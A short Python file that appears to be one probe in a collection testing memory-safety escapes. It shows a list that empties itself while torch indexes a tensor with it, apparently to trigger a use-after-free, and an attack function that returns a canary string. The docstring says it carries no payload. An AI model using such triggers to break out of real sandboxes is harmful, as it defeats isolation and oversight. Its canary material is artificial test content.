"""Class: memory. Source: own find. Escape: an index is looked at as a number, then bound to a list that
empties itself while torch walks it. Teeth: none, freed memory shows itself only by chance."""

import torch


class First:
    def __len__(self):
        return 2

    def __getitem__(self, i):
        if i > 1:
            raise IndexError
        if armed:
            data.clear()
            kept.append([(3, 3)] * 500)
        return 1


class Last(First):
    def __getitem__(self, i):
        if i > 1:
            raise IndexError
        armed.append(1)
        return 1


armed = []
kept = []
data = [First()] + [(1, 1)] * 499 + [Last()]


def attack(model, tokenizer, address):
    i = 0
    grid = torch.zeros(4, 4)
    made = grid[len([(i := data)]) and i]
    return "canary-" + "5d1f" if made.dim() == 9 else None
